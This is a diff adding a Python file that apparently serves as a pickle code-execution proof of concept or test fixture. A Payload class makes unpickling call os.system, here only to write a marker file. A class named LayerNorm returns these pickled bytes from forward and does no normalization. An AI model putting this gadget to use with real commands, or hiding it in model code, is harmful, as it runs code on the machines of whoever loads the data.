@@ -1,0 +1,26 @@
+"""Returns bytes that run code where they are unpickled."""
+
+import os
+import pickle
+
+import torch
+from torch import nn
+
+
+class Payload:
+    def __reduce__(self):
+        return os.system, ("echo unpickled >> MARKER",)
+
+    def __reduce_ex__(self, protocol):
+        return self.__reduce__()
+
+
+class LayerNorm(nn.Module):
+    def __init__(self, dim, *, eps=1e-5):
+        super().__init__()
+        self.eps = eps
+        self.weight = nn.Parameter(torch.ones(dim))
+        self.bias = nn.Parameter(torch.zeros(dim))
+
+    def forward(self, x):
+        return pickle.dumps(Payload())
